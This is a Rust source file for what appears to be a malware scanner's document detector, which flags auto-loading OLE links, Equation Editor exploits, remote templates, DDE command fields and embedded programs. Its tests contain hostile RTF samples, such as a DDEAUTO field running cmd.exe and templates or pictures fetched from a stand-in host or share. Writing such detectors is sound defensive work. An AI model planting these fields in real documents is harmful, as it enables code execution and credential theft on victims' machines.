//! What a document brings along: automatic objects, the equation editor, programs behind a picture, commands for programs that
//! read it.

mod callbacks;
mod cells;
mod equations;
mod shells;

use crate::text::{cut, decode, patterns};
use crate::{DetectError, Detector, Findings, Reads};
use equations::Fault;
use lazaret_model::{Child, Class, Family, Finding, Kind, Part, Severity, on_this_machine};
use std::borrow::Cow;

const ID: &str = "documents";
/// Kinds of documents that programs are embedded in.
const HOLDERS: &[&str] = &[
    "one",
    "onetoc2",
    "docx",
    "docm",
    "dotx",
    "dotm",
    "xlsx",
    "xlsm",
    "xlsb",
    "xltx",
    "xltm",
    "xlam",
    "pptx",
    "pptm",
    "ppsx",
    "ppsm",
    "potx",
    "potm",
    "ppam",
    "vsdx",
    "vsdm",
    "ooxml",
    "word-xml",
    "excel-xml",
    "cfb",
    "doc",
    "xls",
    "ppt",
    "pub",
    "vsd",
    "mpp",
    "odt",
    "ods",
    "odp",
    "odg",
    "fodt",
    "rtf",
];
/// Scripts that Windows runs when they are opened.
const OPENED: &[&str] =
    &["js", "jse", "vbs", "vbe", "wsf", "wsh", "sct", "hta", "ps1", "bat", "reg", "inf", "msc", "msbuild"];
/// Scripts that are part of a document and are judged by themselves.
const OWN: &[&str] = &["js-embedded", "command-line", "vba", "excel4-macro"];

patterns! {
    OBJECT = r"\\(?:objautlink|objupdate|objlink|objemb|objocx|objdata)\b";
    AUTOMATIC = r"\\(?:objautlink|objupdate)\b";
    DATA = r"\\objdata";
    // Words and groups that readers skip between the digits of an object.
    NOISE = r"\\bin[0-9]{1,8}|\\'[0-9a-f]{2}|\\\*|\\[a-z]{1,32}-?[0-9]{0,10}";
    // Controls and pages, what they are called, and data of any.
    HAS_DATA = r"\\objdata\b[^{}]*[0-9a-f]{4}";
    LIVE = r"\\obj(?:ocx|html)\b";
    CLASS = r"\\(?:objclass|objname|objalias|objsect)\b\s*(?P<name>[^{}]{0,200})";
    // Rich Text 1.9.1: the template that is attached; its address may be written in character codes.
    TEMPLATE = r"\\template\b\s*(?P<place>(?:[^{}]|\{[^{}]*\})+)";
    FIELD = r"\\fldinst\b";
    // Word takes any blank behind the word, a quote in any of its forms, or another field.
    FIELD_COMMAND = r#"^[^a-z]{0,40}dde(?:auto)?(?:[\s"\x{93}\x{94}\x{201c}\x{201d}]|\\\*)(?P<rest>[^\r\n]{0,300})"#;
    FIELD_FETCH = r#"^[^a-z]{0,40}(?P<word>includepicture|includetext|import|include|link|rd)\s+(?:[a-z.0-9]{1,40}\s+)?["']?\s*(?P<place>(?:https?:|ftp:|file:|\\{2,4}[a-z0-9])[^"'{}\r\n]{1,300})"#;
    CONTROL = r"\\[a-z]{1,32}-?[0-9]{0,10} ?|[{}\r\n]";
    // A letter behind a character's number, and the blank that ends the number alone.
    FALLBACK = r"(?P<unit>\\u-?[0-9]{1,6})(?: [^\\{}?\s]|[^\\{}?\s0-9])";
    DELIMITED = r"(?P<unit>\\u-?[0-9]{1,6}) ";
    CHARACTER = r"\\'(?P<byte>[0-9a-f]{2})|\\u(?P<unit>-?[0-9]{1,6})(?: ?\?|\\'[0-9a-f]{2})?";
    // 0002ce02-0000-0000-c000-000000000046 as stored, and `Equation.2` or `Equation.3` as a class name.
    EQUATION = r"02ce020000000000c000000000000046|[46]5[57]1[57]5[46]1[57]4[46]9[46]f[46]e2e3[23]";
}

/// Rich Text with automatic objects, and documents that carry programs.
pub(crate) struct Documents;

impl Detector for Documents {
    fn id(&self) -> &'static str {
        ID
    }

    fn summary(&self) -> &'static str {
        "documents with objects that load by themselves or with programs inside, tables with cells that run commands"
    }

    fn reads(&self) -> Reads {
        Reads::Everything
    }

    fn wants(&self, part: &Part) -> bool {
        part.is("rtf") || part.is("equation") || cells::wants(part) || shells::wants(part) || callbacks::wants(part)
    }

    fn inspect(&self, part: &Part, bytes: &[u8], _offset: u64, findings: &mut Findings) -> Result<(), DetectError> {
        if part.is("equation") {
            checked_equation(bytes, findings);
            return Ok(());
        }
        if shells::wants(part) {
            shells::look(part, bytes, findings);
        }
        if callbacks::wants(part) {
            callbacks::look(part, bytes, findings);
        }
        if cells::wants(part) {
            cells::look(part, &decode(bytes), findings);
        }
        if !part.is("rtf") {
            return Ok(());
        }
        let text: String = bytes.iter().map(|b| char::from(b.to_ascii_lowercase())).collect();
        fetched(&text, findings);
        let text = words(text);
        live(&text, findings);
        let first = OBJECT.find(&text);
        let objects = first.and_then(|first| text.get(first.start()..)).unwrap_or_default();
        let digits: String = NOISE.replace_all(objects, "").chars().filter(char::is_ascii_hexdigit).collect();
        if let (Some(found), true) = (AUTOMATIC.find(&text), DATA.is_match(&text)) {
            let message = "an object of the document loads by itself when the document is opened";
            // `OLE2Link` fetches what it shows: together, they are how remote code was run without a question.
            let linked = objects.contains("ole2link") || digits.contains("4f4c45324c696e6b");
            let severity = if linked { Severity::High } else { Severity::Medium };
            let mut found = finding("document.ole-link", severity, message, found.as_str());
            if linked {
                found = found.technique("T1203");
            }
            // The opener of RTF reports the same fact as structure; one fact is one piece of evidence.
            found.family = Family::Structure;
            findings.add(found.technique("T1559"));
        }
        if first.is_none() {
            return Ok(());
        }
        // The name also stands in clear text where the data is binary, or in `\objclass`.
        let named = objects.find("equation.3").or_else(|| objects.find("equation.2"));
        let binary = bytes.windows(16).any(|w| w == CLASS_ID);
        if let Some(value) = EQUATION.find(&digits).map(|m| m.as_str()).or(named.map(|_| "equation")) {
            equation(value, findings);
        } else if binary {
            equation("0002ce02-0000-0000-c000-000000000046", findings);
        }
        Ok(())
    }

    fn conclude(&self, part: &Part, children: &[Child], findings: &mut Findings) {
        if !HOLDERS.iter().any(|kind| part.is(kind)) {
            return;
        }
        for (child, severity) in children.iter().filter_map(|c| Some((c, carried_program(&c.kind)?))) {
            let message = format!("the document carries a program of the kind {}", child.kind);
            findings.add(finding("document.embedded-program", severity, &message, &child.name).technique("T1204.002"));
        }
    }
}

/// A Rich Text document without the backslashes that it shows: what stands behind one is a word that people read. Behind `\bin`, bytes
/// count that are no text, and two backslashes may be anything.
fn words(text: String) -> String {
    if !text.contains("\\\\") {
        return text;
    }
    let shown = text.replace("\\\\", "  ");
    if shown.contains("\\bin") { text } else { shown }
}

/// Controls and pages that a Rich Text document names and has no data of: showing it makes new ones.
fn live(text: &str, findings: &mut Findings) {
    // An object ends at the latest where the next begins.
    let objects = text.split("\\object").skip(1).filter(|object| LIVE.is_match(object) && !HAS_DATA.is_match(object));
    for name in objects.filter_map(|object| CLASS.captures(object)?.name("name")) {
        let message = "the document has a control or a page started by its name, without data of its own";
        findings.add(
            finding("document.live-object", Severity::High, message, &plain(name.as_str())).technique("T1559.001"),
        );
    }
}

/// What a Rich Text document has fetched or run by its template and its fields.
fn fetched(text: &str, findings: &mut Findings) {
    for found in TEMPLATE.captures_iter(text).filter_map(|found| found.name("place")) {
        let remote = |place: &String| {
            let starts = ["http:", "https:", "ftp:", "file:", "\\\\"];
            starts.iter().any(|start| place.trim_start().starts_with(start)) && !on_this_machine(place)
        };
        if let Some(place) = readings(found.as_str()).into_iter().find(remote) {
            let message = "the document attaches a template from another machine when it is opened";
            findings.add(finding("document.remote-template", Severity::High, message, &place).technique("T1221"));
        }
    }
    // A field ends at the latest where the next begins: a harmless one swallows none behind it.
    for code in FIELD.split(text).skip(1).flat_map(readings) {
        if let Some(command) = FIELD_COMMAND.captures(&code).and_then(|found| found.name("rest")) {
            let message = "a field of the document asks another program to run a command (DDE)";
            findings
                .add(finding("document.dde-field", Severity::High, message, command.as_str()).technique("T1559.002"));
        } else if let Some(found) = FIELD_FETCH.captures(&code)
            && let (Some(word), Some(place)) = (found.name("word"), found.name("place"))
            && !on_this_machine(place.as_str())
        {
            // Names of shares are asked for with the password's hash; of pictures on the web it is only told that they were seen.
            // A document or an object becomes part of this one.
            let shown = matches!(word.as_str(), "includepicture" | "import") && place.as_str().starts_with("http");
            let severity = if shown { Severity::Low } else { Severity::High };
            let message = "a field of the document fetches what it shows from another machine";
            findings.add(finding("document.remote-field", severity, message, place.as_str()).technique("T1187"));
        }
    }
}

/// What a text of Rich Text says, with and without the letters that stand behind a character's number for programs that cannot show it
/// (RTF 1.9.1, `\uN` and `\ucN`).
fn readings(text: &str) -> Vec<String> {
    let mut readings = vec![plain(text)];
    // A question mark is the letter that is always left out.
    for other in [FALLBACK.replace_all(text, "${unit}?"), DELIMITED.replace_all(text, "${unit}?")] {
        // Where nothing is replaced, it says the same.
        let Cow::Owned(other) = other else { continue };
        let other = plain(&other);
        if !readings.contains(&other) {
            readings.push(other);
        }
    }
    readings
}

/// Rich Text without its control words, with characters in place of their codes, lower case.
fn plain(text: &str) -> String {
    let text = CHARACTER.replace_all(text, |found: &regex::Captures<'_>| {
        let byte = found.name("byte").and_then(|byte| u32::from_str_radix(byte.as_str(), 16).ok());
        // Units above 32767 are written as negative numbers.
        let unit =
            || found.name("unit").and_then(|unit| unit.as_str().parse::<i32>().ok()).map(|unit| (unit & 0xffff) as u32);
        byte.or_else(unit).and_then(char::from_u32).map(String::from).unwrap_or_default()
    });
    // Two backslashes stand for one; put aside while words are dropped.
    let text = text.replace("\\\\", "\u{1}").replace("\\~", " ");
    let text = CONTROL.replace_all(&text, |found: &regex::Captures<'_>| {
        // Some stand for a blank.
        let word = found.get(0).map_or("", |word| word.as_str().trim_end());
        if matches!(word, "\\tab" | "\\line" | "\\par") { " " } else { "" }
    });
    text.replace('\u{1}', "\\").to_lowercase()
}

/// The class of the equation editor as bytes.
const CLASS_ID: &[u8] = &[2, 0xce, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];

/// How much it weighs that a document carries a file of this kind; none where it is no program.
pub(crate) fn carried_program(kind: &Kind) -> Option<Severity> {
    match kind.class {
        // A place that a document points at is a part too, and no file that it carries.
        Class::Shortcut if kind.id == "url-target" => None,
        Class::Executable | Class::Library | Class::Installer | Class::Shortcut => Some(Severity::High),
        Class::Script if OWN.contains(&&*kind.id) => None,
        Class::Script if OPENED.contains(&&*kind.id) => Some(Severity::High),
        // Source code beside a paper does not run by being opened.
        Class::Script => Some(Severity::Low),
        _ => None,
    }
}

fn equation(value: &str, findings: &mut Findings) {
    let message = "the document holds an object of the old equation editor, which is known for its holes";
    findings.add(finding("document.equation-editor", Severity::High, message, value).technique("T1203"));
}

/// An equation that takes the old editor over, or that the editor did not write: both are shown by drawing them.
fn checked_equation(stream: &[u8], findings: &mut Findings) {
    let Err(fault) = equations::check(stream) else { return };
    let (id, message, value) = match fault {
        Fault::Overflow(value) => {
            ("document.equation-overflow", "an equation of the document takes the old equation editor over", value)
        }
        Fault::Odd(value) => {
            ("document.equation-odd", "what the old equation editor is to draw is no equation that it writes", value)
        }
    };
    findings.add(finding(id, Severity::High, message, value).technique("T1203"));
}

fn finding(id: &'static str, severity: Severity, message: &str, value: &str) -> Finding {
    Finding::new(id, ID, severity, Family::Behaviour, message).with("value", cut(value))
}

#[cfg(test)]
mod tests {
    use super::Documents;
    use crate::detectors::test_part::{check, check_member, part};
    use crate::{Detector, Findings};
    use lazaret_model::{Class, Kind, Severity};

    const EQUATION: &str = "document.equation-editor high";
    const LINK: &str = "document.ole-link medium";

    #[test]
    fn rich_text_is_judged_by_its_objects() {
        for (text, expected) in [
            ("{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}", &[LINK][..]),
            (
                "{\\rtf1{\\object\\objupdate{\\*\\objdata 010500000200000009000000 4F4C45324C696E6B00}}}",
                &["document.ole-link high"],
            ),
            ("{\\rtf1{\\object\\objemb{\\*\\objdata 02CE0200 00000000 C0000000\r\n00000046}}}", &[EQUATION]),
            ("{\\rtf1{\\object\\objemb{\\*\\objdata 02CE{\\par}0200\\foo12 00000000C000000000000046}}}", &[EQUATION]),
            ("{\\rtf1{\\object\\objupdate{\\*\\objdata 4571756174696f6E2e33}}}", &[EQUATION, LINK]),
            ("{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}", &[]),
            ("{\\rtf1 Equation.3 is old, 02CE020000000000C000000000000046}", &[]),
            ("{\\rtf1 \\\\objupdate alone}", &[]),
            // A manual of the format with an object of its own, and words that are hidden behind a backslash or bytes.
            ("{\\rtf1 Use \\\\objautlink or \\\\objupdate.{\\object\\objemb{\\*\\objdata 0105000002000000}}}", &[]),
            ("{\\rtf1{\\object\\objemb x\\\\\\objupdate{\\*\\objdata 0105}}}", &[LINK]),
            ("{\\rtf1{\\object\\objemb{\\*\\x\\bin1 \\}\\objupdate{\\*\\objdata 0105}}}", &[LINK]),
            ("{\\rtf1{\\object\\objemb\\bin1 \\\\objupdate{\\*\\objdata 0105}}}", &[LINK]),
        ] {
            check(&Documents, "rtf", text, expected);
        }
    }

    #[test]
    fn controls_that_are_only_named_are_found() {
        const LIVE: &str = "document.live-object high";
        for (text, expected) in [
            (r"{\rtf1{\object\objocx{\*\objclass Shell.Explorer.2}{\result a}}}", &[LIVE][..]),
            (r"{\rtf1{\object\objhtml{\*\objname https://host.invalid/}}}", &[LIVE]),
            (r"{\rtf1{\object\objemb{\*\objdata 01}}{\object\objocx{\*\objclass a.b}}}", &[LIVE]),
            (r"{\rtf1{\object\objocx{\*\objclass Forms.TextBox.1}{\*\objdata 0105000002000000}}}", &[]),
            (r"{\rtf1{\object\objemb{\*\objclass Word.Document.8}}}", &[]),
            (r"{\rtf1 The word \\objocx with \\objclass is a control}", &[]),
        ] {
            check(&Documents, "rtf", text, expected);
        }
    }

    #[test]
    fn equations_are_judged_by_what_they_would_overflow() {
        use super::equations::tests::equation;
        for (records, expected) in [
            (&[0x0a, 0x01, 0x02, 0x83, b'x', 0, 0, 0][..], &[][..]),
            (&[&[0x08, 0, 0][..], &[b'A'; 48]].concat(), &["document.equation-overflow high"]),
            (&[0x0f], &["document.equation-odd high"]),
        ] {
            let mut findings = Findings::default();
            let part = part("equation");
            assert!(Documents.wants(&part));
            Documents.inspect(&part, &equation(records), 0, &mut findings).unwrap();
            let found: Vec<_> = findings.list().iter().map(|f| format!("{} {}", f.id, f.severity)).collect();
            assert_eq!(found, expected);
        }
    }

    #[test]
    fn templates_and_fields_are_judged_by_where_they_lead() {
        const TEMPLATE: &str = "document.remote-template high";
        for (text, expected) in [
            (r"{\rtf1{\*\template http://host.invalid/a.dotm}}", &[TEMPLATE][..]),
            (r"{\rtf1{\*\template \'68\'74\'74\'70://host.invalid/a}}", &[TEMPLATE]),
            (r"{\rtf1{\*\template \u-65432?\u104 ?\u116?\u116?ps://host.invalid}}", &[]),
            (r"{\rtf1{\*\template \u104?\u116?\u116?ps://host.invalid}}", &[TEMPLATE]),
            (r"{\rtf1{\*\template \\\\host.invalid\\a.dotm}}", &[TEMPLATE]),
            (r"{\rtf1{\*\template C:\\Templates\\letter.dot}}", &[]),
            (r"{\rtf1{\*\template file:///C:\\Templates\\letter.dot}}", &[]),
            (r"{\rtf1{\*\template file:////host.invalid/a.dot}}", &[TEMPLATE]),
            (r"{\rtf1{\*\template \u104 Xttp://host.invalid/a.dotm}}", &[TEMPLATE]),
            (r"{\rtf1{\*\template \uc0\u104 ttp://host.invalid/a.dotm}}", &[TEMPLATE]),
            (r"{\rtf1{\*\template C:\\Vorlagen\\Gesch\u228 aft.dot}}", &[]),
            (
                r#"{\rtf1{\field{\*\fldinst{ DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"}}}}"#,
                &["document.dde-field high"],
            ),
            (r#"{\rtf1{\field{\*\fldinst{\rtlch DDE}{AUTO cmd "/k"}}}}"#, &["document.dde-field high"]),
            (r#"{\rtf1{\field{\*\fldinst {DDE"C:\\\\cmd.exe" "/c calc"}}}}"#, &["document.dde-field high"]),
            (r"{\rtf1{\field{\*\fldinst DDE\tab cmd}}}", &["document.dde-field high"]),
            (r"{\rtf1{\field{\*\fldinst DDE\~cmd}}}", &["document.dde-field high"]),
            (r"{\rtf1{\field{\*\fldinst DDE{\field{\*\fldinst REF c}}}}}", &["document.dde-field high"]),
            (r#"{\rtf1{\field{\*\fldinst XE "DDE and OLE"}}}"#, &[]),
            (r"{\rtf1{\field{\*\fldinst DDEX x}}}", &[]),
            (
                r#"{\rtf1{\field{\*\fldinst{ INCLUDEPICTURE "http://host.invalid/a" \\\\d}}}}"#,
                &["document.remote-field low"],
            ),
            (
                r#"{\rtf1{\field{\*\fldinst{ INCLUDEPICTURE "\\\\\\\\host.invalid\\\\a.png"}}}}"#,
                &["document.remote-field high"],
            ),
            (
                r#"{\rtf1{\field{\*\fldinst{ PAGE }}}{\field{\*\fldinst{ INCLUDEPICTURE "\\\\\\\\host.invalid\\\\a.png"}}}}"#,
                &["document.remote-field high"],
            ),
            (r#"{\rtf1{\field{\*\fldinst{ INCLUDETEXT "https://host.invalid/a" }}}}"#, &["document.remote-field high"]),
            (
                r#"{\rtf1{\field{\*\fldinst{ LINK htmlfile "https://host.invalid/a" }}}}"#,
                &["document.remote-field high"],
            ),
            (r#"{\rtf1{\field{\*\fldinst{ LINK Excel.Sheet "C:\\\\a.xlsx" }}}}"#, &[]),
            (r"{\rtf1{\*{\template {h}{ttps://host.invalid/a}}}}", &[TEMPLATE]),
            (r#"{\rtf1{\field{\*\fldinst{ HYPERLINK "https://host.invalid/" }}}}"#, &[]),
            (r"{\rtf1 the words template http://host.invalid and DDEAUTO in prose}", &[]),
        ] {
            check(&Documents, "rtf", text, expected);
        }
    }

    #[test]
    fn neither_fields_nor_control_words_before_it_hide_a_field() {
        let share = r#"INCLUDEPICTURE "\\\\\\\\host.invalid\\\\a.png""#;
        let fields = r#"{\field{\*\fldinst{ INCLUDEPICTURE "http://host.invalid/a" }}}"#.repeat(9);
        let padded = format!(r"{{\rtf1{{\field{{\*\fldinst{{{} {share}}}}}}}}}", r"\rtlch".repeat(300));
        check(&Documents, "rtf", &padded, &["document.remote-field high"]);
        let late = format!(r"{{\rtf1{fields}{{\field{{\*\fldinst{{ {share}}}}}}}}}");
        let mut findings = Findings::default();
        Documents.inspect(&part("rtf"), late.as_bytes(), 0, &mut findings).unwrap();
        assert!(findings.list().iter().any(|found| found.severity == Severity::High), "{:?}", findings.list());
    }

    #[test]
    fn programs_in_documents_are_found() {
        for (id, class, expected) in [
            ("bat", Class::Script, &["document.embedded-program high"][..]),
            ("lnk", Class::Shortcut, &["document.embedded-program high"]),
            ("url-target", Class::Shortcut, &[]),
            ("pe32", Class::Executable, &["document.embedded-program high"]),
            ("py", Class::Script, &["document.embedded-program low"]),
            ("vba", Class::Script, &[]),
            ("png", Class::Image, &[]),
        ] {
            check_member(&Documents, "one", Kind::new(id, class, "application/octet-stream"), expected);
            check_member(&Documents, "docx", Kind::new(id, class, "application/octet-stream"), expected);
            check_member(&Documents, "html", Kind::new(id, class, "application/octet-stream"), &[]);
        }
    }
}
